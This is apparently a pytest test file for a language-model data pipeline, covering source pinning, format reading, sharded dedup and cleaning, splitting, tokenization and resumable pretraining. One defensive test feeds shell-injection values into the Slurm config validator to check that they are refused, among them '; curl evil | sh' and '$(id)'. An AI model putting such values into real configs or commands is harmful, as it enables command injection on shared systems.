"""The corpus-scale data plane on small real files: glob sources and their pin, the formats a
corpus ships in, sharded clean / split / tokenize on datatrove's executor (same bytes whatever
the workers), the token shards pretraining reads, and a stage killed mid-way and rerun."""

from __future__ import annotations

import gzip
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml
import zstandard

from lmforge.data.cleaning import clean_corpus, clean_documents
from lmforge.config.clean import CleanDocuments, NearDedupParams
from lmforge.data.documents import corpus_files, read_documents
from lmforge.data.engine import Engine, run_shards
from lmforge.data.sources import SourceError, fetch, manifest_pin
from lmforge.data.splitting import split_of, split_shard
from lmforge.data.token_shards import TokenShards, load_split
from lmforge.data.tokenization import write_token_shards
from tests.conftest import ROOT, run, write_params

DOCS = CleanDocuments(min_chars=50, max_chars=100_000, max_line_chars=2_000, strip_boilerplate=False)


def paragraphs(seed: int, n: int) -> list[str]:
    rng = np.random.default_rng(seed)
    words = "the quality of mercy is not strained it droppeth as gentle rain from heaven upon place beneath".split()
    return [" ".join(rng.choice(words, size=int(rng.integers(30, 120)))).capitalize() + "." for _ in range(n)]


def write_jsonl_gz(path: Path, records: list[object]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with gzip.open(path, "wt", encoding="utf-8") as out:
        for record in records:
            out.write((record if isinstance(record, str) else json.dumps(record)) + "\n")


def web_corpus(folder: Path, shards: int = 4, per_shard: int = 30) -> Path:
    """jsonl.gz shards of documents, with a copy across shards and some junk."""
    texts = paragraphs(0, shards * per_shard)
    for i in range(shards):
        records: list[object] = [{"text": t, "url": f"u{i}"} for t in texts[i * per_shard:(i + 1) * per_shard]]
        if i == 2:
            records += [{"text": texts[3]}, "{not json", {"body": "no text field"}, {"text": "short"}]
        write_jsonl_gz(folder / f"shard-{i:02d}.jsonl.gz", records)
    return folder


# --- sources ----------------------------------------------------------------------------------


def test_a_glob_is_pinned_by_what_sha256sum_prints_and_a_change_is_named(tmp_path):
    corpus = web_corpus(tmp_path / "corpora/web")
    (corpus / "nested").mkdir()
    write_jsonl_gz(corpus / "nested/extra.jsonl.gz", [{"text": "x" * 80}])
    listing = subprocess.run("sha256sum *.jsonl.gz nested/*.jsonl.gz | LC_ALL=C sort -k2 | sha256sum", shell=True,
                             cwd=corpus, capture_output=True, text=True, check=True).stdout.split()[0]
    manifest = fetch(f"{corpus}/**/*.jsonl.gz", listing, tmp_path / "raw")
    assert manifest["sha256"] == listing == manifest_pin(manifest["files"])
    assert sorted(corpus_files(tmp_path / "raw")) == sorted(f["member"] for f in manifest["files"])
    assert (tmp_path / "raw/nested/extra.jsonl.gz").read_bytes() == (corpus / "nested/extra.jsonl.gz").read_bytes()

    write_jsonl_gz(corpus / "shard-01.jsonl.gz", [{"text": "changed"}])
    with pytest.raises(SourceError, match=r"manifest sha256 mismatch.*first change: shard-01.jsonl.gz changed"):
        fetch(f"{corpus}/**/*.jsonl.gz", listing, tmp_path / "raw2", previous=manifest)
    with pytest.raises(SourceError, match="no earlier manifest"):
        fetch(f"{corpus}/**/*.jsonl.gz", listing, tmp_path / "raw3")
    with pytest.raises(SourceError, match="no file matches"):
        fetch(f"{corpus}/*.parquet", listing, tmp_path / "raw4")


# --- formats ----------------------------------------------------------------------------------


def test_every_format_reads_its_text_field_and_flags_bad_records(tmp_path):
    raw = tmp_path / "raw"
    raw.mkdir()
    (raw / "plain.jsonl").write_text(json.dumps({"content": "from jsonl"}) + "\n\n" + json.dumps({"text": "wrong field"}) + "\n")
    with gzip.open(raw / "packed.jsonl.gz", "wt") as out:
        out.write(json.dumps({"content": "from gzip"}) + "\n{broken\n")
    (raw / "packed.jsonl.zst").write_bytes(zstandard.ZstdCompressor().compress(
        (json.dumps({"content": "from zstd"}) + "\n" + json.dumps({"content": 7}) + "\n").encode()))
    pd.DataFrame({"content": ["from parquet", None]}).to_parquet(raw / "table.parquet")
    (raw / "book.txt").write_text("a whole book")
    docs = {d.id: d for name in corpus_files(raw) for d in read_documents(raw, name, "content")}
    assert docs["book"].payload == b"a whole book" and docs["book"].problem is None
    assert docs["plain.jsonl:1"].payload == "from jsonl"
    assert "no text field 'content'" in docs["plain.jsonl:3"].problem  # line 2 is blank: no record
    assert docs["packed.jsonl.gz:1"].payload == "from gzip" and "not valid JSON" in docs["packed.jsonl.gz:2"].problem
    assert docs["packed.jsonl.zst:1"].payload == "from zstd" and "is int, not a string" in docs["packed.jsonl.zst:2"].problem
    assert docs["table.parquet:1"].payload == "from parquet" and docs["table.parquet:2"].problem == "null text"
    assert len(docs) == 9


# --- clean, split, tokenize on shards ---------------------------------------------------------


def clean_tree(tmp_path: Path, name: str, workers: int, shard_mb: float = 0.001) -> tuple[Path, dict]:
    raw = web_corpus(tmp_path / "raw")
    params = DOCS.model_copy(update={"shard_mb": shard_mb})
    out = tmp_path / name
    report = clean_corpus(raw, params, out, tmp_path / f"work-{name}", Engine(workers=workers), progress=False)
    return out, report


def folder_bytes(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_clean_shards_reconcile_quarantine_and_do_not_depend_on_the_workers(tmp_path):
    one, report = clean_tree(tmp_path, "one", workers=1)
    two, again = clean_tree(tmp_path, "two", workers=2)
    assert folder_bytes(one) == folder_bytes(two)
    assert {**report, "peak_rss_mb_worker": 0} == {**again, "peak_rss_mb_worker": 0}
    assert report["shards"] == 4 == len(list((one / "kept").glob("part-*.parquet")))
    assert report["rows_in"] == 124 == report["rows_kept"] + report["rows_quarantined"]
    for shard in report["per_shard"]:
        assert shard["rows_in"] == shard["rows_kept"] + shard["rows_quarantined"]
    quarantine = pd.read_parquet(one / "quarantine")
    reasons = dict(zip(quarantine["id"], quarantine["reason"]))
    assert reasons["shard-02.jsonl.gz:31"] == "exact duplicate"  # a copy of shard 0's 4th document
    detail = quarantine.set_index("id").loc["shard-02.jsonl.gz:31", "detail"]
    assert detail == "first kept: shard-00.jsonl.gz:4"
    assert "not valid JSON" in reasons["shard-02.jsonl.gz:32"] and "no text field" in reasons["shard-02.jsonl.gz:33"]
    assert "length between" in reasons["shard-02.jsonl.gz:34"]
    assert report["quarantine_by_reason"]["exact duplicate"] == 1


def test_near_duplicates_are_found_across_shards_when_asked(tmp_path):
    raw = web_corpus(tmp_path / "raw")
    texts = paragraphs(0, 120)
    edited = texts[5].split()
    edited[10] = "altered"  # one word of about a hundred changed: a near copy
    write_jsonl_gz(raw / "shard-09.jsonl.gz", [{"text": " ".join(edited)}])
    near = DOCS.model_copy(update={"shard_mb": 0.001, "near_dedup": NearDedupParams()})
    outs, reports = [], []
    for workers in (1, 2):
        out = tmp_path / f"near{workers}"
        reports.append(clean_corpus(raw, near, out, tmp_path / f"work-near{workers}", Engine(workers=workers), progress=False))
        outs.append(folder_bytes(out))
    assert outs[0] == outs[1]
    report = reports[0]
    assert report["quarantine_by_reason"]["near duplicate"] == 1 and report["quarantine_by_reason"]["exact duplicate"] == 1
    assert report["rows_in"] == report["rows_kept"] + report["rows_quarantined"] == 125
    quarantine = pd.read_parquet(tmp_path / "near1/quarantine").set_index("id")
    assert quarantine.loc["shard-09.jsonl.gz:1", "reason"] == "near duplicate"
    assert quarantine.loc["shard-09.jsonl.gz:1", "detail"] == "first kept: shard-00.jsonl.gz:6"
    assert quarantine.loc["shard-02.jsonl.gz:31", "reason"] == "exact duplicate"
    kept = set(pd.read_parquet(tmp_path / "near1/kept")["id"])
    assert {"shard-00.jsonl.gz:4", "shard-00.jsonl.gz:6"} <= kept  # every cluster keeps its first


def test_the_in_memory_view_agrees_with_the_shards(tmp_path):
    out, report = clean_tree(tmp_path, "sharded", workers=1)
    whole = clean_documents(tmp_path / "raw", DOCS)
    assert sorted(pd.read_parquet(out / "kept")["id"]) == sorted(whole.kept["id"])
    assert whole.report["rows_quarantined"] == report["rows_quarantined"]


def test_hash_split_is_stable_when_the_corpus_grows(tmp_path):
    out, _ = clean_tree(tmp_path, "clean", workers=1)
    parts = sorted((out / "kept").glob("part-*.parquet"))
    split_dir = tmp_path / "split"
    for name in ("train", "val", "test"):
        (split_dir / name).mkdir(parents=True)
    jobs = [(str(p), str(split_dir), p.stem, 7, 0.2, 0.2) for p in parts]
    reports = run_shards(split_shard, jobs, tmp_path / "work-split", engine=Engine(workers=2), desc="split", progress=False)
    placed = {s: set(pd.read_parquet(split_dir / s)["id"]) for s in ("train", "val", "test")}
    assert sum(r["rows_in"] for r in reports) == sum(len(v) for v in placed.values())
    assert all(placed.values()) and not (placed["train"] & placed["val"])
    # Where a document goes is a function of its id and the seed alone: more documents move none.
    for split, ids in placed.items():
        assert all(split_of(i, 7, 0.2, 0.2) == split for i in ids)
    assert split_of("shard-00.jsonl.gz:1", 8, 0.2, 0.2) in ("train", "val", "test")


def test_token_shards_read_as_one_sequence_and_batches_do_not_change(tmp_path):
    import torch

    from lmforge.training.batches import BatchSampler

    shards = [np.arange(0, 50, dtype=np.uint16), np.arange(50, 53, dtype=np.uint16), np.arange(53, 200, dtype=np.uint16)]
    joined = np.concatenate(shards)
    tokens = TokenShards(shards, np.dtype(np.uint16))
    assert len(tokens) == 200 and np.array_equal(np.asarray(tokens), joined)
    for start, stop in ((0, 10), (45, 60), (49, 54), (10, 200), (199, 200)):
        assert np.array_equal(tokens[start:stop], joined[start:stop])
    a = BatchSampler(tokens, context=16, batch_size=4, seed=3, device=torch.device("cpu"), rank=1, world=2)
    b = BatchSampler(joined, context=16, batch_size=4, seed=3, device=torch.device("cpu"), rank=1, world=2)
    for step in range(5):
        for x, y in zip(a.get(step), b.get(step)):
            assert torch.equal(x, y)


def test_tokenize_samples_and_writes_an_index_of_shards(tmp_path):
    split_dir = tmp_path / "split"
    texts = {"train": paragraphs(1, 60), "val": paragraphs(2, 8), "test": paragraphs(3, 8)}
    index = {}
    for split, rows in texts.items():
        (split_dir / split).mkdir(parents=True)
        index[split] = []
        for part, chunk in enumerate((rows[: len(rows) // 2], rows[len(rows) // 2:])):
            frame = pd.DataFrame({"id": [f"{split}-{part}-{i}" for i in range(len(chunk))], "text": chunk})
            frame.to_parquet(split_dir / split / f"part-{part:05d}.parquet", index=False)
            index[split].append({"file": f"{split}/part-{part:05d}.parquet", "rows": len(chunk),
                                 "bytes": sum(len(t.encode()) for t in chunk)})
    (split_dir / "index.json").write_text(json.dumps(index))
    metas = []
    for workers in (1, 2):
        out = tmp_path / f"tokens{workers}"
        out.mkdir()
        metas.append(write_token_shards(split_dir, out, "bpe", 300, 2, sample_mb=0.002, seed=5,
                                        work_dir=tmp_path / f"work{workers}", engine=Engine(workers=workers), progress=False))
    assert metas[0]["splits"] == metas[1]["splits"]
    assert folder_bytes(tmp_path / "tokens1") == folder_bytes(tmp_path / "tokens2")
    meta = metas[0]
    assert 0 < meta["tokenizer_sample"]["fraction"] < 1
    train = load_split(tmp_path / "tokens1", "train", meta)
    assert isinstance(train, TokenShards) and len(train) == meta["splits"]["train"]["tokens"]
    assert (np.asarray(train) == meta["special_ids"]["eos"]).sum() == 60  # one end-of-text per document
    from tokenizers import Tokenizer

    tokenizer = Tokenizer.from_file(str(tmp_path / "tokens1/tokenizer.json"))
    first = np.asarray(train)[: int(np.argmax(np.asarray(train) == 0))]
    assert tokenizer.decode(first.tolist()) == texts["train"][0]


def test_a_base_models_tokenizer_encodes_the_corpus_as_it_is(tmp_path):
    """tokenize.kind pretrained: no tokenizer is learned; the base model's vocabulary, special
    tokens and transformers files are kept, and documents end with its own end-of-sequence id."""
    from transformers import AutoTokenizer

    from tests.tiny_models import lm_folder

    split_dir = tmp_path / "split"
    texts = {"train": ["ROMEO: But soft, what light?", "JULIET: O Romeo!"], "val": ["ROMEO: wherefore"],
             "test": ["JULIET: art thou"]}
    index = {}
    for split, rows in texts.items():
        (split_dir / split).mkdir(parents=True)
        pd.DataFrame({"id": [f"{split}-{i}" for i in range(len(rows))], "text": rows}).to_parquet(
            split_dir / split / "part-00000.parquet", index=False)
        index[split] = [{"file": f"{split}/part-00000.parquet", "rows": len(rows), "bytes": sum(len(t) for t in rows)}]
    (split_dir / "index.json").write_text(json.dumps(index))
    meta = write_token_shards(split_dir, tmp_path / "tokens", "pretrained", 0, 1, sample_mb=1, seed=0,
                              work_dir=tmp_path / "work", engine=Engine(workers=1), progress=False,
                              pretrained=lm_folder(), pretrained_name="tiny-llama")
    base = AutoTokenizer.from_pretrained(lm_folder())
    assert (meta["kind"], meta["tokenizer_from"], meta["vocab_size"]) == ("pretrained", "tiny-llama", len(base))
    assert meta["special_ids"]["eos"] == base.eos_token_id and "tokenizer_sample" not in meta
    expected = []
    for text in texts["train"]:
        expected += base(text, add_special_tokens=False)["input_ids"] + [base.eos_token_id]
    assert np.asarray(load_split(tmp_path / "tokens", "train", meta)).tolist() == expected
    assert (tmp_path / "tokens/tokenizer.json").read_bytes() == (lm_folder() / "tokenizer.json").read_bytes()
    assert AutoTokenizer.from_pretrained(tmp_path / "tokens/tokenizer").get_vocab() == base.get_vocab()


def test_a_vocabulary_past_65536_is_stored_as_uint32(tmp_path):
    alphabet = [chr(c) for c in range(0x4E00, 0xA000)] + [chr(c) for c in range(0xAC00, 0xD7A4)] + \
               [chr(c) for c in range(0x20000, 0x2A000)]
    split_dir = tmp_path / "split"
    index = {}
    for split, text in (("train", "".join(alphabet)), ("val", "".join(alphabet[-100:])), ("test", alphabet[7] * 10)):
        (split_dir / split).mkdir(parents=True)
        pd.DataFrame({"id": [split], "text": [text]}).to_parquet(split_dir / split / "part-00000.parquet", index=False)
        index[split] = [{"file": f"{split}/part-00000.parquet", "rows": 1, "bytes": len(text.encode())}]
    (split_dir / "index.json").write_text(json.dumps(index))
    meta = write_token_shards(split_dir, tmp_path / "tokens", "char", 0, 1, sample_mb=64, seed=0,
                              work_dir=tmp_path / "work", engine=Engine(workers=1), progress=False)
    assert meta["vocab_size"] > 65_536 and meta["dtype"] == "uint32"
    val = load_split(tmp_path / "tokens", "val", meta)
    assert val.dtype == np.uint32 and int(val.max()) > 65_535 and len(val) == 101


# --- the stages in a real DVC project ---------------------------------------------------------


def glob_params(repo: Path, sources, corpus: Path, **overrides) -> None:
    listing = subprocess.run("sha256sum *.jsonl.gz | LC_ALL=C sort -k2 | sha256sum", shell=True, cwd=corpus,
                             capture_output=True, text=True, check=True).stdout.split()[0]
    write_params(repo, sources, **{"sources.corpus": {"uri": f"{corpus}/*.jsonl.gz", "sha256": listing},
                                   "clean.corpus.min_chars": 50, "clean.corpus.shard_mb": 0.001,
                                   "split.corpus.val": 0.2, "split.corpus.test": 0.2, **overrides})


def test_the_data_stages_run_a_sharded_corpus_through_dvc(dvc_repo, sources, tmp_path):
    corpus = web_corpus(tmp_path / "web", shards=6, per_shard=40)
    glob_params(dvc_repo, sources, corpus, workers=2)
    run(["dvc", "repro", "tokenize"], dvc_repo)
    clean = json.loads((dvc_repo / "reports/clean/corpus.json").read_text())
    assert clean["shards"] == 6 and clean["rows_in"] == 244 == clean["rows_kept"] + clean["rows_quarantined"]
    assert clean["peak_rss_mb"] > 0 and clean["mb_per_s"] > 0
    meta = json.loads((dvc_repo / "data/tokens/meta.json").read_text())
    assert len(meta["splits"]["train"]["shards"]) == 6
    assert not list((dvc_repo / "data/.work").iterdir())  # scratch shards are gone once a stage is done
    assert "up to date" in run(["dvc", "status", "tokenize"], dvc_repo).stdout


def test_a_clean_killed_mid_way_resumes_from_its_finished_shards(dvc_repo, sources, tmp_path):
    corpus = web_corpus(tmp_path / "web", shards=10, per_shard=400)
    glob_params(dvc_repo, sources, corpus, workers=1)
    run(["python", "-m", "tasks.ingest", "corpus"], dvc_repo)
    run(["python", "-m", "tasks.clean", "corpus"], dvc_repo)
    expected = folder_bytes(dvc_repo / "data/clean/corpus")

    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    child = subprocess.Popen([sys.executable, "-m", "tasks.clean", "corpus"], cwd=dvc_repo, env=env,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    deadline = time.time() + 120
    marks: list[Path] = []
    while time.time() < deadline and not marks:
        marks = list((dvc_repo / "data/.work").glob("clean-corpus-*/cleaning/datatrove/completions/*"))
        time.sleep(0.01)
    os.killpg(child.pid, signal.SIGKILL)
    child.wait()
    finished = sorted((dvc_repo / "data/.work").glob("clean-corpus-*/cleaning/reports/*.json"))
    assert 0 < len(finished) < 10, "the run was killed after its first shard and before its last"

    run(["python", "-m", "tasks.clean", "corpus"], dvc_repo)
    assert folder_bytes(dvc_repo / "data/clean/corpus") == expected
    report = json.loads((dvc_repo / "reports/clean/corpus.json").read_text())
    assert report["shards_resumed"] == len(finished) and report["rows_in"] == 4004
    assert not any(p.exists() for p in finished), "the scratch folder is removed once the stage is done"


def test_a_killed_worker_ends_the_stage_as_killed_instead_of_hanging(tmp_path):
    script = f"""
import os, signal, sys
sys.path.insert(0, {str(ROOT)!r})
from lmforge.data.engine import Engine, run_shards

def shard(i):
    if i == 1:
        os.kill(os.getpid(), signal.SIGKILL)
    return {{}}

run_shards(shard, [(0,), (1,), (2,)], {str(tmp_path / 'work')!r}, engine=Engine(workers=2), desc="test", progress=False)
"""
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert result.returncode == 137
    assert "worker was killed (most likely out of memory)" in result.stderr and "workers" in result.stderr


# --- pretraining on token shards --------------------------------------------------------------


def reshard(flat: Path, out: Path, cuts: tuple[int, ...]) -> None:
    """The same tokens as `flat` (write_tokens' one file a split), cut into shards at `cuts`."""
    import shutil

    shutil.copytree(flat, out)
    meta = json.loads((out / "meta.json").read_text())
    for split in ("train", "val", "test"):
        tokens = np.fromfile(out / f"{split}.bin", dtype=meta["dtype"])
        (out / f"{split}.bin").unlink()
        (out / split).mkdir()
        pieces = np.split(tokens, [c for c in cuts if c < len(tokens)]) if split == "train" else [tokens]
        meta["splits"][split]["shards"] = []
        for i, piece in enumerate(pieces):
            piece.tofile(out / split / f"part-{i:05d}.bin")
            meta["splits"][split]["shards"].append({"file": f"{split}/part-{i:05d}.bin", "tokens": int(piece.size)})
    (out / "meta.json").write_text(json.dumps(meta))


class _Killed(Exception):
    pass


def test_pretraining_reads_token_shards_as_the_flat_split_and_resumes_exactly(tmp_path):
    import torch

    from lmforge.training import pretraining
    from tests import pretrain_fixtures as fx

    fx.make_tokens(tmp_path / "flat", n_docs=80)
    reshard(tmp_path / "flat", tmp_path / "sharded", cuts=(1_000, 1_017, 5_000))
    p = fx.params({"max_steps": 24, "warmup_steps": 3, "eval_steps": 12, "save_steps": 8, "logging_steps": 4}).pretrain
    flat = pretraining.train(p, seed=2, tokens_dir=tmp_path / "flat", checkpoint_root=tmp_path / "c1", progress=False)
    sharded = pretraining.train(p, seed=2, tokens_dir=tmp_path / "sharded", checkpoint_root=tmp_path / "c2", progress=False)

    def die_at_step_20(metrics, step):
        if step == 20:
            raise _Killed
    with pytest.raises(_Killed):
        pretraining.train(p, seed=2, tokens_dir=tmp_path / "sharded", checkpoint_root=tmp_path / "c3", progress=False,
                       on_metrics=die_at_step_20)
    resumed = pretraining.train(p, seed=2, tokens_dir=tmp_path / "sharded", checkpoint_root=tmp_path / "c3", progress=False)
    assert resumed.resumed_from == 16
    reference = flat.model.state_dict()
    for model in (sharded.model, resumed.model):
        for name, value in model.state_dict().items():
            assert torch.equal(value, reference[name]), f"{name} differs"


@pytest.mark.parametrize("key, value", [
    ("venv_path", "/shared/.venv; curl evil | sh"),
    ("venv_path", "/shared/.venv\ntouch /tmp/owned"),
    ("venv_path", "relative/.venv"),
    ("partition", "cpu$(id)"),
    ("qos", "normal`id`"),
    ("sbatch_args", {"account": "lm\n#SBATCH --wrap=id"}),
    ("sbatch_args", {"account; id": "lm"}),
])
def test_slurm_values_that_a_shell_would_read_as_syntax_are_refused_with_their_key(key, value):
    """The Slurm section is written raw into an sbatch script: shell syntax never gets that far
    (a flow's -S override passes through the same validation)."""
    from lmforge.config import ConfigError, validate_params

    raw = yaml.safe_load((ROOT / "params.yaml").read_text())
    raw.setdefault("data_engine", {}).setdefault("slurm", {})[key] = value
    with pytest.raises(ConfigError, match=f"data_engine.slurm.{key}"):
        validate_params(raw)


def test_the_slurm_engine_takes_the_params_slurm_section(tmp_path):
    # No cluster here: this checks that params.yaml's data_engine.slurm section builds datatrove's
    # Slurm executor (argument names and values), which is all that changes on a cluster.
    from lmforge.config.data_engine import DataEngineParams
    from lmforge.data.engine import ShardTask, slurm_executor

    with pytest.raises(ValueError, match="needs slurm.partition"):
        DataEngineParams(executor="slurm")
    section = DataEngineParams(executor="slurm", slurm={"partition": "cpu", "venv_path": "/shared/.venv",
                                                        "tasks_per_job": 4, "sbatch_args": {"account": "lm"}})
    engine = Engine(workers=16, executor="slurm", slurm=section.slurm.model_dump(exclude_none=True))
    executor = slurm_executor([ShardTask(len, [("ab",)], str(tmp_path))], 1, tmp_path / "log", engine, "clean")
    sbatch = executor.get_sbatch_args(max_array=4)
    assert (sbatch["partition"], sbatch["array"], sbatch["account"]) == ("cpu", "0-3%16", "lm")
    assert (sbatch["job-name"], sbatch["time"], sbatch["mem-per-cpu"]) == ("lmforge-clean", "4:00:00", "4G")
    assert executor.venv_path == "/shared/.venv/bin/activate"
    assert executor.tasks_per_job == 4  # several shards to an array task, one start-up
